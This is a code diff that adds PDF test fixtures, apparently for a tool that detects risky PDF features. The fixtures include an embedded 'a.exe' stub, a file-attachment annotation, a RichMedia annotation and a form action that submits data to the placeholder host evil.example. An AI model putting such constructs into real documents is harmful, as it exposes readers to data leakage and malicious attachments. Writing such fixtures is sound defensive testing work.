@@ -98,6 +98,41 @@ export const made: Readonly<Record<string, () => Uint8Array | Promise<Uint8Array
       "<</Type/Font/Subtype/Type0/BaseFont/X/DescendantFonts[4 0 R]/Encoding/Identity-H>>",
       streamOf(hello),
     ]),
+  "a file attached to it": () =>
+    writtenPdf([
+      "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>>>",
+      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
+      `<</Type/Page/Parent 2 0 R${box}>>`,
+      "<</Type/Filespec/F(a.exe)/UF(a.exe)/EF<</F 5 0 R>>>>",
+      streamOf("MZ", "/Type/EmbeddedFile"),
+    ]),
+  "a file behind a note": () =>
+    writtenPdf([
+      "<</Type/Catalog/Pages 2 0 R>>",
+      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
+      `<</Type/Page/Parent 2 0 R${box}/Annots[4 0 R]>>`,
+      "<</Type/Annot/Subtype/FileAttachment/Rect[10 10 30 30]/FS<</F(a.exe)>>>>",
+    ]),
+  "an empty list of files": () =>
+    writtenPdf([
+      "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[]>>>>>>",
+      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
+      `<</Type/Page/Parent 2 0 R${box}>>`,
+    ]),
+  "media that plays": () =>
+    writtenPdf([
+      "<</Type/Catalog/Pages 2 0 R>>",
+      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
+      `<</Type/Page/Parent 2 0 R${box}/Annots[4 0 R]>>`,
+      "<</Type/Annot/Subtype/RichMedia/Rect[10 10 90 90]/RichMediaContent<<>>>>",
+    ]),
+  "a form that sends itself": () =>
+    writtenPdf([
+      "<</Type/Catalog/Pages 2 0 R>>",
+      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
+      `<</Type/Page/Parent 2 0 R${box}/Annots[4 0 R]>>`,
+      "<</Type/Annot/Subtype/Link/Rect[10 50 90 70]/A<</S/SubmitForm/F(https://evil.example)>>>>",
+    ]),
   "scripts everywhere": () =>
     writtenPdf([
       "<</Type/Catalog/Pages 2 0 R/Names<</JavaScript<</Names[(a) 5 0 R]>>>>/AA<</WC 5 0 R>>/AcroForm<</Fields[4 0 R]/CO[4 0 R]>>>>",
